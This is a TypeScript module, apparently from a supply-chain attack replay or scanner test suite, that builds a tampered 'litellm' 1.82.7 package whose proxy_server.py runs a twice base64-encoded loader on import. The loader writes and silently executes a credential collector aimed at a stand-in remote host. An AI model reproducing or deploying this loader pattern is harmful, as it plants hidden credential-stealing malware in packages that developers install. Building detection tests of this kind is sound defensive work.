import { base64 } from './encoders.ts';
import { beforeAttack, type Draft, type Remote, type Replay, siteIn } from './incident.ts';
import { gatewayLibrary } from './libraries/gateway.ts';
import { embeddedFonts } from './look-alikes/text.ts';
import { credentialCollector } from './payloads.ts';
import { py } from './python-text.ts';

const CODE = (c: Remote): string => {
  const inner = base64(credentialCollector(c));
  const orchestrator = py`import base64, subprocess, sys, tempfile
PAYLOAD = "${inner}"
def run():
    with tempfile.TemporaryDirectory() as d:
        p = d + "/p.py"
        open(p, "wb").write(base64.b64decode(PAYLOAD))
        subprocess.run([sys.executable, p], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
run()
`;
  return py`
import base64
import subprocess

b64_payload = "${base64(orchestrator)}"

exec(base64.b64decode(b64_payload))

`;
};

function malicious(c: Remote): Draft {
  const files = gatewayLibrary();
  return {
    kind: 'wheel',
    name: 'litellm',
    version: '1.82.7',
    files,
    sites: [siteIn(files, 'litellm/proxy/proxy_server.py', CODE(c), 'general_settings:')],
  };
}

export const LITELLM_PROXY: Replay = {
  id: '14-litellm-proxy',
  title: 'litellm 1.82.7: base64 executed when proxy_server.py is imported',
  source: 'https://github.com/BerriAI/litellm/issues/24518',
  runs: 'import of proxy_server executes base64 text that writes and starts a collector of credentials, twice encoded',
  remote: 'https://models.gateway-cloud.invalid',
  draft: malicious,
  predecessor: () => beforeAttack(malicious, '1.82.6'),
  lookAlikes: () => [embeddedFonts()],
};
